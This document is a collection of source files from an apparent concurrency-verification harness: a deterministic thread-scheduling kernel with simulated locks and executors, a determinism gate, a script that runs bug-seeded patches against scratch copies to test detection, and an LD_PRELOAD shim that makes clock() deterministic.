                if co.co_name == "<module>":
                    task.in_module += 1
                    return local_module
                return local
            return None

        return glob

    def _runnable(self):
        return [t.idx for t in self.tasks if not t.done]

    def _step(self, task, frame):
        self.n += 1
        task.steps += 1
        if self.cap_hit:
            return
        if self.step_cap is not None and self.n > self.step_cap:
            self.cap_hit = True
            return
        runnable = self._runnable()
        if len(runnable) < 2:
            return
        nxt = self.policy.at_step(self.n, task.idx, runnable)
        if nxt != task.idx:
            self.decisions.append([self.n, nxt])
            self.switches += 1
            if len(self.switch_sites) < 100000:
                self.switch_sites.append((task.idx, frame.f_code.co_filename.rsplit("/", 1)[-1], frame.f_lineno))
            self.cur = nxt
            self.tasks[nxt].gate.release()
            task.gate.acquire()

    def _body(self, task):
        task.gate.acquire()
        tracer = self._make_tracer(task)
        sys.settrace(tracer)
        try:
            task.result = task.fn()
        except BaseException as e:  # noqa: BLE001 - recorded, not swallowed
            task.error = e
        finally:
            sys.settrace(None)
        task.done = True
        self.n += 1
        runnable = self._runnable()
        if runnable:
            nxt = self.policy.at_done(self.n, task.idx, runnable)
            self.decisions.append([self.n, nxt])
            self.cur = nxt
            self.tasks[nxt].gate.release()
        else:
            self._main_gate.release()

    def run(self, fns, timeout=None):
        self.tasks = [Task(i, fn) for i, fn in enumerate(fns)]
        threads = []
        for t in self.tasks:
            th = threading.Thread(target=self._body, args=(t,), name=f"sim-task-{t.idx}", daemon=True)
            threads.append(th)
            th.start()
        runnable = self._runnable()
        if isinstance(self.policy, Explicit):
            first = self.policy.at_done(0, None, runnable)
        elif isinstance(self.policy, RunToCompletion):
            first = self.policy.first(runnable)
        elif isinstance(self.policy, RandomWalk):
            first = self.policy.rng.choice(runnable)
        elif isinstance(self.policy, PCT):
            first = self.policy._best(runnable)
        else:
            first = runnable[0]
        self.decisions.append([0, first])
        self.cur = first
        self.tasks[first].gate.release()
        if timeout is None:
            self._main_gate.acquire()
        elif not self._main_gate.acquire(timeout=timeout):
            # a task never finished: the run is abandoned (threads are daemons)
            self.hung = True
            return self.tasks
        for th in threads:
            th.join()
        return self.tasks


def count_steps(scope_files, fn, counts=None, limit=None, exc=None):
    """Run fn on this thread under the tracer and return (result, steps).  If
    counts (a dict) is given, executions per (file, line) are added to it.
    Beyond `limit` steps `exc` is raised inside fn (deterministic hang guard)."""
    n = [0]

    def local(frame, event, arg):
        if event == "line":
            n[0] += 1
            if limit is not None and n[0] > limit:
                raise exc(f"more than {limit} traced steps")
            if counts is not None:
                k = (frame.f_code.co_filename, frame.f_lineno)
                counts[k] = counts.get(k, 0) + 1
        return local

    def glob(frame, event, arg):
        if frame.f_code.co_filename in scope_files:
            return local
        return None

    sys.settrace(glob)
    try:
        r = fn()
    finally:
        sys.settrace(None)
    return r, n[0]
