"""Determinism gate.

For each property: generate N scenarios from VERIF_SEED; (1) regenerate them in
a fresh interpreter under a different orchestrator PYTHONHASHSEED and compare
scenario digests (generation is a pure function of the seed); (2) execute every
scenario twice, in fresh world interpreters, at two different worker counts,
and compare the digests of the complete world logs.

usage: gate.py [--n 200] [--props C09,C18,C20]
exit 0 iff everything matched.
"""

from __future__ import annotations

import argparse
import json
import os
import subprocess
import sys
import time

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)


def gen_digests(prop, master, n):
    import gen
    import orchestrate as o

    shipped = gen.shipped_summary(o.REPO)
    return [o.scenario_digest(o.generate(prop, master, i, shipped, "quick")) for i in range(n)]


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--n", type=int, default=200)
    ap.add_argument("--props", default="C09,C18,C20")
    ap.add_argument("--child", nargs=3)
    a = ap.parse_args()
    if a.child:
        prop, master, n = a.child[0], int(a.child[1]), int(a.child[2])
        print(json.dumps(gen_digests(prop, master, n)))
        return
    master = int(os.environ.get("VERIF_SEED", "20261003"))
    bad = 0
    import gen
    import orchestrate as o

    for prop in a.props.split(","):
        t0 = time.time()
        mine = gen_digests(prop, master, a.n)
        for hs in ("123", "random"):
            env = dict(os.environ, PYTHONHASHSEED=hs)
            r = subprocess.run([o.PY, os.path.abspath(__file__), "--child", prop, str(master), str(a.n)], capture_output=True, text=True, env=env)
            theirs = json.loads(r.stdout)
            if theirs != mine:
                bad += 1
                print(f"{prop}: generation differs under orchestrator PYTHONHASHSEED={hs}: first at index {next(i for i, (x, y) in enumerate(zip(mine, theirs)) if x != y)}")
        shipped = gen.shipped_summary(o.REPO)
        scns = [o.generate(prop, master, i, shipped, "quick") for i in range(a.n)]
        runs = []
        for jobs in (16, 5):
            o._pool = None
            o.NPROC = jobs
            outs_all = o.run_many(scns)
            o._pool.shutdown()
            runs.append([[o.world_digest(x) if x.get("ok") else "ERR:" + str(x.get("harness_error")) for x in outs] for outs in outs_all])
        diff = [i for i in range(a.n) if runs[0][i] != runs[1][i]]
        errs = [i for i in range(a.n) if any(str(d).startswith("ERR") for d in runs[0][i] + runs[1][i])]
        worlds = sum(len(r) for r in runs[0])
        print(f"{prop}: {a.n} scenarios / {worlds} worlds executed twice (16 and 5 workers), {len(diff)} differing logs, {len(errs)} with harness errors, {time.time() - t0:.0f}s")
        if diff:
            print(f"  differing scenario indices: {diff[:10]}")
        bad += len(diff) + len(errs)
    print("GATE", "OK" if not bad else "FAILED")
    sys.exit(1 if bad else 0)


if __name__ == "__main__":
    main()
