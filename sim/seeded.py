"""Seeded changes (written by independent sub-agents from the property text
only): ingest from a scratch worktree, and run the checks against them.

  seeded.py ingest <worktree> <id> <property>   verify (tests pass, demo fails with / passes without) and store under /verif/seeded/<id>/
  seeded.py run <id>|all [--scale S] [--tier quick]   apply patch to a scratch copy of /repo/src (never to /repo) and run the property's check
"""

from __future__ import annotations

import argparse
import json
import os
import shutil
import subprocess
import sys
import tempfile
import time

HERE = os.path.dirname(os.path.abspath(__file__))
VERIF = os.path.dirname(HERE)
SEEDED = os.path.join(VERIF, "seeded")
PY = "/venv/bin/python"


def sh(cmd, **kw):
    return subprocess.run(cmd, shell=isinstance(cmd, str), capture_output=True, text=True, **kw)


def ingest(wt, sid, prop):
    env = dict(os.environ, PYTHONPATH=os.path.join(wt, "src"))
    sh(["git", "-C", wt, "add", "-A", "src"])
    patch = sh(["git", "-C", wt, "diff", "--cached", "--", "src"]).stdout
    if not patch.strip():
        sys.exit("no change in worktree")
    t = sh([PY, "-m", "pytest", "-q", "-p", "no:cacheprovider", "tests"], cwd=wt, env=env)
    tests_ok = t.returncode == 0
    d1 = sh([PY, "demo.py"], cwd=wt, env=env, timeout=900)
    # NOT git stash: refs/stash is shared by all worktrees of one repository
    pf = os.path.join(tempfile.gettempdir(), f"ingest-{sid}.patch")
    with open(pf, "w") as fh:
        fh.write(patch)
    sh(["git", "-C", wt, "reset", "-q"])
    r = sh(["git", "-C", wt, "apply", "-R", pf])
    if r.returncode != 0:
        sys.exit("could not reverse the change: " + r.stderr)
    try:
        d0 = sh([PY, "demo.py"], cwd=wt, env=env, timeout=900)
    finally:
        sh(["git", "-C", wt, "apply", pf])
        os.unlink(pf)
    print(f"tests_pass_with_change={tests_ok} ({t.stdout.strip().splitlines()[-1] if t.stdout.strip() else ''}) demo_with_change_exit={d1.returncode} demo_without_exit={d0.returncode}")
    ok = tests_ok and d1.returncode != 0 and d0.returncode == 0
    if not ok:
        print("NOT KEPT: conditions not met")
        print(d1.stdout[-500:], d1.stderr[-500:], d0.stdout[-500:], d0.stderr[-500:])
        return 1
    dst = os.path.join(SEEDED, sid)
    os.makedirs(dst, exist_ok=True)
    with open(os.path.join(dst, "patch.diff"), "w") as fh:
        fh.write(patch)
    shutil.copy(os.path.join(wt, "demo.py"), os.path.join(dst, "demo.py"))
    notes = ""
    if os.path.exists(os.path.join(wt, "NOTES.md")):
        notes = open(os.path.join(wt, "NOTES.md")).read()
        with open(os.path.join(dst, "NOTES.md"), "w") as fh:
            fh.write(notes)
    meta = {
        "id": sid,
        "property": prop,
        "breaks": prop,
        "origin": "independent sub-agent given only the property record and a scratch worktree",
        "needs_to_manifest": "see NOTES.md",
        "confirmed": {
            "tests_with_change": "308 passed" if tests_ok else "FAILED",
            "demo_with_change_exit": d1.returncode,
            "demo_without_change_exit": d0.returncode,
            "how": f"cd {wt} && PYTHONPATH={wt}/src {PY} -m pytest -q -p no:cacheprovider tests; PYTHONPATH={wt}/src {PY} demo.py with the change and after git stash (demo.py refers to the worktree path it was written in)",
            "demo_output_with_change": (d1.stdout + d1.stderr)[-600:],
        },
        "detection": None,
    }
    with open(os.path.join(dst, "meta.json"), "w") as fh:
        json.dump(meta, fh, indent=1)
    print("kept as", dst)
    return 0


def run(sid, scale, tier, seed):
    dst = os.path.join(SEEDED, sid)
    meta = json.load(open(os.path.join(dst, "meta.json")))
    prop = meta["property"]
    root = tempfile.mkdtemp(prefix=f"mdsim-seeded-{sid}-", dir="/tmp")
    t0 = time.time()
    try:
        shutil.copytree("/repo/src", os.path.join(root, "src"), ignore=shutil.ignore_patterns("__pycache__", "*.egg-info"))
        r = sh(["patch", "-p1", "-s", "-d", root, "-i", os.path.join(dst, "patch.diff")])
        if r.returncode != 0:
            print(sid, "PATCH-FAILED", r.stdout, r.stderr)
            return None
        env = dict(os.environ, VERIF_REPO=root, VERIF_SCALE=str(scale), VERIF_NO_EVIDENCE="1", VERIF_REPLAY_DIR=os.path.join(root, "replays"), VERIF_SEED=str(seed))
        try:
            p = sh([os.path.join(VERIF, "check"), prop, "--tier", tier], env=env, timeout=4 * 3600)
        except subprocess.TimeoutExpired:
            print(sid, "TIMEOUT")
            return None
        viol = [ln for ln in p.stdout.splitlines() if ln.startswith("VIOLATION")]
        detail = [ln for ln in p.stdout.splitlines() if ln.startswith("violation:")]
        caught = p.returncode == 1 and bool(viol)
        summary = [ln for ln in p.stdout.splitlines() if ln.startswith(prop + " ")]
        print(f"{'CAUGHT' if caught else 'MISSED(exit=%d)' % p.returncode:16s} {sid:28s} {prop} {time.time() - t0:6.1f}s {detail[0][:260] if detail else (summary[-1] if summary else p.stdout[-300:])}")
        sys.stdout.flush()
        return {"caught": caught, "exit": p.returncode, "tier": tier, "seed": seed, "scale": scale, "first_violation": detail[0][:400] if detail else None,
                "clauses": sorted({m.group(1) for d in detail for m in [__import__("re").search(r'"clause": "([a-z_]+)"', d)] if m})}
    finally:
        shutil.rmtree(root, ignore_errors=True)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("cmd")
    ap.add_argument("args", nargs="*")
    ap.add_argument("--scale", type=float, default=1.0)
    ap.add_argument("--tier", default="quick")
    ap.add_argument("--seed", type=int, default=20261003)
    ap.add_argument("--record", action="store_true", help="write the outcome into meta.json")
    a = ap.parse_args()
    if a.cmd == "ingest":
        sys.exit(ingest(*a.args))
    if a.cmd == "run":
        ids = sorted(os.listdir(SEEDED)) if a.args == ["all"] else a.args
        missed = 0
        for sid in ids:
            res = run(sid, a.scale, a.tier, a.seed)
            oos = json.load(open(os.path.join(SEEDED, sid, "meta.json"))).get("out_of_scope")
            if oos:
                print(f"  ({sid}: {oos})")
            elif not res or not res["caught"]:
                missed += 1
            if a.record and res:
                mp = os.path.join(SEEDED, sid, "meta.json")
                meta = json.load(open(mp))
                meta["detection"] = res
                json.dump(meta, open(mp, "w"), indent=1)
        print(f"{len(ids) - missed}/{len(ids)} seeded changes caught")
        sys.exit(1 if missed else 0)


if __name__ == "__main__":
    main()
