/* Simulated CPU clock for C extensions (LD_PRELOAD).
 *
 * The regex module measures its optional `timeout=` with clock(): CPU time of
 * the whole process, read inside the C matching loop where no Python-level
 * seam reaches.  With VERIF_SIMCLOCK_SEED=<n != 0> every clock() call advances
 * a private counter by a seeded amount (mostly 10 us, sometimes 50 ms, rarely
 * 2 s or 60 s): a deadline computed from clock() expires at a seeded point, so
 * a result that depends on it differs between worlds and replays exactly.
 * With the variable unset or 0 the real clock is passed through.
 * The unchanged tree never passes timeout= and never reaches clock().
 */
#define _GNU_SOURCE
#include <stdint.h>
#include <stdlib.h>
#include <time.h>

static uint64_t state;
static clock_t now_ticks;
static int initialised;

clock_t clock(void) {
    if (!initialised) {
        const char *s = getenv("VERIF_SIMCLOCK_SEED");
        state = s ? strtoull(s, 0, 10) : 0;
        initialised = 1;
    }
    if (!state) {
        struct timespec ts;
        clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &ts);
        return (clock_t)(ts.tv_sec * CLOCKS_PER_SEC + ts.tv_nsec / (1000000000L / CLOCKS_PER_SEC));
    }
    state ^= state << 13;
    state ^= state >> 7;
    state ^= state << 17;
    uint64_t r = state % 1000;
    clock_t step = r < 600 ? 10 : r < 950 ? 50000 : r < 995 ? 2000000 : 60000000;
    now_ticks += step;
    return now_ticks;
}
