"""Simulation kernel: one baton, many tasks.

Generalises the caller-thread scheduler (sched.py) so that threads started *by
the code under test* are tasks too (tier 2 of DESIGN 3.4):

* every task is a real OS thread parked on a private _thread lock; exactly one
  holds the baton;
* pre-emption points are settrace line events in scope files, blocking points
  are the simulator-owned primitives (SimLock -> RLock / Condition / Event /
  Semaphore / queue.Queue via the pure-Python stdlib implementations,
  Thread.join, futures, time.sleep);
* at every event the policy - and only the policy - decides who runs;
* waits with a timeout use simulated time: when nothing is runnable the clock
  jumps to the earliest deadline; with a small seeded probability a pending
  timeout is fired early ("the other side was slow"), which is legal because
  the duration of the work that is still running is not defined;
* every decision is recorded as [event, task]; an Explicit policy replays them.

The kernel is process-global (KERNEL).  The harness's own helper threads are
started with _thread.start_new_thread and never touch these primitives.
"""

from __future__ import annotations

import _thread
import random
import sys
import threading

import sched as _pol  # policies (RandomWalk, PCT, RunToCompletion, Explicit)

RUNNABLE, BLOCKED, DONE = "R", "B", "D"


class SimDeadlock(RuntimeError):
    """Every task is blocked: the program under test deadlocked in this schedule."""


class StepLimitExceeded(BaseException):
    """A run executed far more traced steps than any run of the unchanged tree
    needs (deterministic hang detection: a function of the schedule, not of
    wall time)."""


class SimHang(BaseException):
    """The main task waited (in real time) far longer than any run of the
    unchanged tree needs: some task never gave the baton back."""


class Task:
    __slots__ = ("idx", "fn", "gate", "state", "result", "error", "in_module", "steps", "deadline", "timed_out",
                 "thread_obj", "joiners", "name", "is_main")

    def __init__(self, idx, fn, name="", is_main=False):
        self.idx = idx
        self.fn = fn
        self.gate = _thread.allocate_lock()
        self.gate.acquire()
        self.state = RUNNABLE
        self.result = None
        self.error = None
        self.in_module = 0
        self.steps = 0
        self.deadline = None
        self.timed_out = False
        self.thread_obj = None
        self.joiners = []
        self.name = name
        self.is_main = is_main

    @property
    def done(self):
        return self.state == DONE


class Kernel:
    def __init__(self):
        self.tasks = []
        self.cur = None
        self.n = 0
        self.policy = _pol.Policy()
        self.fault_rng = random.Random(0)
        self.timeout_fire_p = 0.0
        self.decisions = []
        self.switch_sites = []
        self.switches = 0
        self.scope = frozenset()
        self.step_cap = None
        self.cap_hit = False
        self.hung = False
        self.hang_limit = None
        self.engine = frozenset()
        self.n_engine = 0
        self.lib_scope = None
        self.site_counts = None
        self.abort_at = None
        self.abort_skip = frozenset()
        self.now = 0.0  # simulated seconds (used only for waits with timeouts / sleep)
        self.counters = {"lib_threads_started": 0, "deadlocks": 0, "timeouts_fired_early": 0, "timeouts_by_idle": 0,
                         "blocks": 0, "lock_contention": 0, "unsimulated_concurrency": 0}
        self.main = None
        self.by_ident = {}
        self.installed = False
        self.main_real_timeout = None
        self.preempt_in_module = False  # only for ops that explore concurrent first imports

    # ------------------------------------------------------------------ setup
    def adopt_main(self):
        t = Task(0, None, "main", is_main=True)
        self.tasks = [t]
        self.main = t
        self.cur = t
        self.by_ident[_thread.get_ident()] = t
        return t

    def begin_run(self, policy, scope, step_cap=None, fault_seed=0, timeout_fire_p=0.0, hang_limit=None, lib_scope=None, engine=None):
        """Start a recorded run (one op).  Tasks from earlier runs are dropped
        if finished."""
        self.tasks = [t for t in self.tasks if not t.done or t.is_main]
        for i, t in enumerate(self.tasks):
            t.idx = i
        self.n = 0
        self.policy = policy
        self.fault_rng = random.Random(f"kfault/{fault_seed}")
        self.timeout_fire_p = timeout_fire_p
        self.decisions = []
        self.switch_sites = []
        self.switches = 0
        self.scope = frozenset(scope)
        self.step_cap = step_cap
        self.cap_hit = False
        self.hung = False
        # the hang guard counts line events in the engine files only: their number is proportional to the
        # number of hits, whatever the pre-emption scope, so one limit fits every scope
        self.hang_limit = hang_limit
        self.engine = frozenset(engine) if engine else frozenset()
        self.n_engine = 0
        self.lib_scope = frozenset(lib_scope) if lib_scope else None
        self.site_counts = None
        self.abort_at = None  # (step, exception class): fault injected into whichever task executes that step
        self.abort_skip = frozenset()

    def current(self):
        return self.by_ident.get(_thread.get_ident())

    def multi(self):
        return sum(1 for t in self.tasks if t.state != DONE) > 1

    # ------------------------------------------------------------- scheduling
    def _runnable(self):
        return [t.idx for t in self.tasks if t.state == RUNNABLE]

    def _hand_over(self, frm, to_idx, park):
        """Give the baton to task to_idx; park frm if asked."""
        to = self.tasks[to_idx]
        self.cur = to
        to.gate.release()
        if park:
            if frm.is_main and self.main_real_timeout:
                if not frm.gate.acquire(timeout=self.main_real_timeout):
                    self.hung = True
                    frm.state = RUNNABLE
                    raise SimHang()
            else:
                frm.gate.acquire()

    def _maybe_fire_timeout(self):
        """Fault: a pending timed wait expires although other tasks could still
        run (the peer was slow)."""
        if self.timeout_fire_p <= 0:
            return
        waiting = [t for t in self.tasks if t.state == BLOCKED and t.deadline is not None]
        if waiting and self.fault_rng.random() < self.timeout_fire_p:
            t = waiting[self.fault_rng.randrange(len(waiting))]
            self.now = max(self.now, t.deadline)
            t.timed_out = True
            t.deadline = None
            t.state = RUNNABLE
            self.counters["timeouts_fired_early"] += 1

    def preempt_point(self, task, frame):
        self.n += 1
        task.steps += 1
        if self.abort_at is not None and self.n >= self.abort_at[0]:
            # not on a `with` header (the line event that precedes __exit__ lies outside the protected
            # range: CPython itself cannot release the lock there, bpo-29988) nor inside clean-up code
            # (finally / except bodies): no program can be asked to survive a fault in its own clean-up
            if (frame.f_code.co_filename, frame.f_lineno) not in self.abort_skip:
                exc = self.abort_at[1]
                self.abort_at = None
                raise exc()
        if self.site_counts is not None:
            k = (frame.f_code.co_filename, frame.f_lineno)
            self.site_counts[k] = self.site_counts.get(k, 0) + 1
        if frame.f_code.co_filename in self.engine:
            self.n_engine += 1
            if self.hang_limit is not None and self.n_engine > self.hang_limit:
                # cut this task off; any other task still looping gets the same treatment a little later
                self.hang_limit = self.n_engine + 200_000
                raise StepLimitExceeded(f"more than {self.n_engine - 1} engine steps")
        if self.cap_hit:
            return
        if self.step_cap is not None and self.n > self.step_cap:
            self.cap_hit = True
            return
        self._maybe_fire_timeout()
        runnable = self._runnable()
        if len(runnable) < 2:
            return
        if getattr(self.policy, "wants_site", False):
            nxt = self.policy.at_step(self.n, task.idx, runnable, (frame.f_code.co_filename, frame.f_lineno))
        else:
            nxt = self.policy.at_step(self.n, task.idx, runnable)
        if nxt != task.idx:
            self.decisions.append([self.n, nxt])
            self.switches += 1
            if len(self.switch_sites) < 100000:
                self.switch_sites.append((task.idx, frame.f_code.co_filename.rsplit("/", 1)[-1], frame.f_lineno))
            self._hand_over(task, nxt, park=True)

    def _pick_after_block(self, task):
        """Called when `task` cannot continue (blocked or done).  Returns the
        index of the task to run next, advancing simulated time if only timed
        waits remain; None if nothing can ever run (deadlock / all done)."""
        self.n += 1
        self._maybe_fire_timeout()
        runnable = self._runnable()
        if not runnable:
            timed = [t for t in self.tasks if t.state == BLOCKED and t.deadline is not None]
            if not timed:
                return None
            t = min(timed, key=lambda x: (x.deadline, x.idx))
            self.now = max(self.now, t.deadline)
            t.timed_out = True
            t.deadline = None
            t.state = RUNNABLE
            self.counters["timeouts_by_idle"] += 1
            runnable = [t.idx]
        nxt = self.policy.at_done(self.n, task.idx, runnable)
        self.decisions.append([self.n, nxt])
        return nxt

    def block(self, task, timeout=None):
        """Current task waits until somebody wakes it (or its timeout fires).
        Returns True if woken, False if timed out.  Raises SimDeadlock if no
        task can ever run again."""
        self.counters["blocks"] += 1
        task.state = BLOCKED
        task.timed_out = False
        task.deadline = (self.now + max(0.0, timeout)) if timeout is not None else None
        nxt = self._pick_after_block(task)
        if nxt is None:
            task.state = RUNNABLE
            task.deadline = None
            self.counters["deadlocks"] += 1
            raise SimDeadlock("all tasks are blocked")
        if nxt != task.idx:
            self._hand_over(task, nxt, park=True)
        else:
            self.cur = task
        to = task.timed_out
        task.timed_out = False
        task.deadline = None
        return not to

    def wake(self, task):
        if task.state == BLOCKED:
            task.state = RUNNABLE
            task.deadline = None

    def yield_now(self, task):
        """A voluntary scheduling point (e.g. sleep(0))."""
        runnable = self._runnable()
        if len(runnable) > 1:
            self.n += 1
            nxt = self.policy.at_step(self.n, task.idx, runnable)
            if nxt != task.idx:
                self.decisions.append([self.n, nxt])
                self.switches += 1
                self._hand_over(task, nxt, park=True)

    def sleep(self, task, secs):
        if not self.multi():
            self.now += max(0.0, secs)
            return
        if secs <= 0:
            self.yield_now(task)
            return
        try:
            self.block(task, timeout=secs)
        except SimDeadlock:
            raise

    # ------------------------------------------------------------------ tasks
    def _make_tracer(self, task):
        kernel = self

        def local(frame, event, arg):
            if event == "line":
                if (not task.in_module or kernel.preempt_in_module) and frame.f_code.co_filename in kernel.scope:
                    kernel.preempt_point(task, frame)
            return local

        def local_module(frame, event, arg):
            if event == "return":
                task.in_module -= 1
            elif event == "line" and kernel.preempt_in_module and frame.f_code.co_filename in kernel.scope:
                kernel.preempt_point(task, frame)
            return local_module

        def glob(frame, event, arg):
            co = frame.f_code
            if co.co_filename in kernel.scope:
                if co.co_name == "<module>":
                    task.in_module += 1
                    return local_module
                return local
            return None

        return glob, local

    def spawn(self, fn, name="", thread_obj=None):
        """Create a task (RUNNABLE, not running).  The caller keeps the baton."""
        t = Task(len(self.tasks), fn, name)
        t.thread_obj = thread_obj
        self.tasks.append(t)
        ready = _thread.allocate_lock()
        ready.acquire()

        def body():
            self.by_ident[_thread.get_ident()] = t
            if thread_obj is not None:
                threading._active[_thread.get_ident()] = thread_obj
            ready.release()
            t.gate.acquire()  # wait for the baton
            glob, _ = self._make_tracer(t)
            sys.settrace(glob)
            try:
                t.result = t.fn()
            except BaseException as e:  # noqa: BLE001 - recorded
                t.error = e
            finally:
                sys.settrace(None)
            t.state = DONE
            for j in t.joiners:
                self.wake(j)
            t.joiners = []
            self.by_ident.pop(_thread.get_ident(), None)
            if thread_obj is not None:
                threading._active.pop(_thread.get_ident(), None)
            nxt = self._pick_after_block(t)
            if nxt is not None:
                self._hand_over(t, nxt, park=False)
            # else: nothing can run - only possible if main is blocked forever; main's real timeout reports it

        _thread.start_new_thread(body, ())
        ready.acquire()  # the thread exists and is parked (or about to park) on its gate
        # from now on the spawning task needs pre-emption points in the library scope too
        if self.lib_scope is not None and not self.lib_scope <= self.scope:
            self.scope = self.scope | self.lib_scope
        cur = self.current()
        if cur is not None:
            self.trace_current(cur)
        return t

    def trace_current(self, task):
        """Install the tracer on the calling thread, including frames that are
        already on the stack."""
        glob, local = self._make_tracer(task)
        if sys.gettrace() is None:
            sys.settrace(glob)
        f = sys._getframe(1)
        while f is not None:
            if f.f_trace is None and f.f_code.co_filename in self.scope and f.f_code.co_name != "<module>":
                f.f_trace = local
            f = f.f_back

    def untrace_current(self):
        sys.settrace(None)
        f = sys._getframe(1)
        while f is not None:
            if f.f_trace is not None:
                f.f_trace = None
            f = f.f_back

    def join(self, task, target, timeout=None):
        """task waits for target to finish.  True if finished."""
        while not target.done:
            target.joiners.append(task)
            ok = self.block(task, timeout)
            if not ok:
                if task in target.joiners:
                    target.joiners.remove(task)
                return target.done
        return True

    def run_tasks(self, fns, real_timeout=None):
        """Tier 1: the calling (main) task spawns one task per fn and waits for
        all of them.  Returns the Task objects."""
        me = self.current()
        tasks = [self.spawn(fn, name=f"job-{i}") for i, fn in enumerate(fns)]
        # main must not take part in pre-emption while it only waits
        self.untrace_current()
        for t in tasks:
            t.joiners.append(me)
        self._wait_main(me, lambda: all(t.done for t in tasks), real_timeout)
        return tasks

    def _wait_main(self, me, pred, real_timeout):
        while not pred():
            me.state = BLOCKED
            me.deadline = None
            nxt = self._pick_after_block(me)
            if nxt is None:
                me.state = RUNNABLE
                self.counters["deadlocks"] += 1
                raise SimDeadlock("all tasks are blocked")
            if nxt == me.idx:
                self.cur = me
                continue
            to = self.tasks[nxt]
            self.cur = to
            to.gate.release()
            if real_timeout is None:
                me.gate.acquire()
            elif not me.gate.acquire(timeout=real_timeout):
                self.hung = True  # a task never gave the baton back: abandoned
                me.state = RUNNABLE
                return


KERNEL = Kernel()


# ==========================================================================
# simulator-owned synchronisation primitives


class SimLock:
    """Replacement for threading.Lock / _thread.allocate_lock objects created
    after install().  Cooperative: only the baton holder ever touches it."""

    def __init__(self):
        self._locked = False
        self._waiters = []

    def acquire(self, blocking=True, timeout=-1):
        k = KERNEL
        if not self._locked:
            self._locked = True
            return True
        if not blocking:
            return False
        me = k.current()
        if me is None:
            # a thread the simulator does not know about: cannot be scheduled
            k.counters["unsimulated_concurrency"] += 1
            raise RuntimeError("SimLock used from a thread the simulator does not own")
        k.counters["lock_contention"] += 1
        to = None if (timeout is None or timeout < 0) else float(timeout)
        while self._locked:
            self._waiters.append(me)
            ok = k.block(me, to)
            if not ok:
                if me in self._waiters:
                    self._waiters.remove(me)
                if self._locked:
                    return False
        self._locked = True
        return True

    __enter__ = acquire

    def __exit__(self, *a):
        self.release()

    def release(self):
        if not self._locked:
            raise RuntimeError("release unlocked lock")
        self._locked = False
        if self._waiters:
            w = self._waiters.pop(0)
            KERNEL.wake(w)

    def locked(self):
        return self._locked

    def _at_fork_reinit(self):
        self._locked = False
        self._waiters = []

    def __repr__(self):
        return f"<SimLock {'locked' if self._locked else 'unlocked'}>"


_orig = {}


class _DetSet(set):
    """A set whose iteration order is the insertion order given at creation
    (so that callers iterating the result of wait() do not depend on object
    addresses)."""

    def __init__(self, items=()):
        items = list(dict.fromkeys(items))
        super().__init__(items)
        self._order = items

    def __iter__(self):
        return iter([x for x in self._order if set.__contains__(self, x)])


def install():
    """Route threading through the kernel.  Must run before the code under
    test is imported."""
    if KERNEL.installed:
        return
    import concurrent.futures
    import concurrent.futures._base as cfb
    import concurrent.futures.thread as cft
    import queue
    import time as _time

    k = KERNEL
    _orig.update(
        Lock=threading.Lock, _allocate_lock=threading._allocate_lock, _CRLock=threading._CRLock,
        start=threading.Thread.start, join=threading.Thread.join, is_alive=threading.Thread.is_alive,
        SimpleQueue=queue.SimpleQueue, start_new_thread=_thread.start_new_thread,
    )
    threading.Lock = SimLock
    threading._allocate_lock = SimLock
    threading._CRLock = None  # RLock -> pure-Python _RLock on SimLock
    queue.SimpleQueue = queue._PySimpleQueue

    def start(self):
        if getattr(self, "_sim_task", None) is not None or self._started.is_set():
            raise RuntimeError("threads can only be started once")
        k.counters["lib_threads_started"] += 1

        def run():
            try:
                self.run()
            except BaseException:  # noqa: BLE001 - what Thread._bootstrap_inner does
                try:
                    threading.excepthook(threading.ExceptHookArgs((*sys.exc_info(), self)))
                except BaseException:  # noqa: BLE001
                    pass

        self._sim_task = k.spawn(run, name=self.name, thread_obj=self)
        self._started.set()

    def join(self, timeout=None):
        t = getattr(self, "_sim_task", None)
        if t is None:
            if not self._started.is_set():
                raise RuntimeError("cannot join thread before it is started")
            return _orig["join"](self, timeout)
        me = k.current()
        if me is t:
            raise RuntimeError("cannot join current thread")
        k.join(me, t, timeout)

    def is_alive(self):
        t = getattr(self, "_sim_task", None)
        if t is None:
            return _orig["is_alive"](self)
        return not t.done

    threading.Thread.start = start
    threading.Thread.join = join
    threading.Thread.is_alive = is_alive

    # ---- deterministic executor / as_completed / wait --------------------
    seq = [0]

    class SimFuture(cfb.Future):
        def _stamp(self):
            seq[0] += 1
            self._sim_seq = seq[0]

        def set_result(self, result):
            self._stamp()
            super().set_result(result)

        def set_exception(self, exception):
            self._stamp()
            super().set_exception(exception)

        def cancel(self):
            r = super().cancel()
            if r and not hasattr(self, "_sim_seq"):
                self._stamp()
            return r

    class SimThreadPoolExecutor(cfb.Executor):
        """ThreadPoolExecutor with simulator-owned workers: same API, but no
        iteration over sets of threads and no weakref/atexit machinery, so a
        run is a pure function of the schedule."""

        _counter = 0

        def __init__(self, max_workers=None, thread_name_prefix="", initializer=None, initargs=()):
            if max_workers is None:
                max_workers = 8
            if max_workers <= 0:
                raise ValueError("max_workers must be greater than 0")
            self._max_workers = max_workers
            self._work = []
            self._cv = threading.Condition()
            self._threads = []
            self._shutdown = False
            self._idle = 0
            SimThreadPoolExecutor._counter += 1
            self._prefix = thread_name_prefix or f"SimPool-{SimThreadPoolExecutor._counter}"
            self._initializer = initializer
            self._initargs = initargs

        def submit(self, fn, /, *args, **kwargs):
            with self._cv:
                if self._shutdown:
                    raise RuntimeError("cannot schedule new futures after shutdown")
                f = SimFuture()
                self._work.append((f, fn, args, kwargs))
                if self._idle == 0 and len(self._threads) < self._max_workers:
                    t = threading.Thread(target=self._worker, name=f"{self._prefix}_{len(self._threads)}", daemon=True)
                    self._threads.append(t)
                    t.start()
                self._cv.notify()
                return f

        def _worker(self):
            if self._initializer is not None:
                self._initializer(*self._initargs)
            while True:
                with self._cv:
                    while not self._work and not self._shutdown:
                        self._idle += 1
                        self._cv.wait()
                        self._idle -= 1
                    if not self._work:
                        return
                    f, fn, args, kwargs = self._work.pop(0)
                if not f.set_running_or_notify_cancel():
                    continue
                try:
                    r = fn(*args, **kwargs)
                except BaseException as e:  # noqa: BLE001
                    f.set_exception(e)
                else:
                    f.set_result(r)

        def shutdown(self, wait=True, *, cancel_futures=False):
            with self._cv:
                self._shutdown = True
                if cancel_futures:
                    for f, *_ in self._work:
                        f.cancel()
                    self._work = []
                self._cv.notify_all()
            if wait:
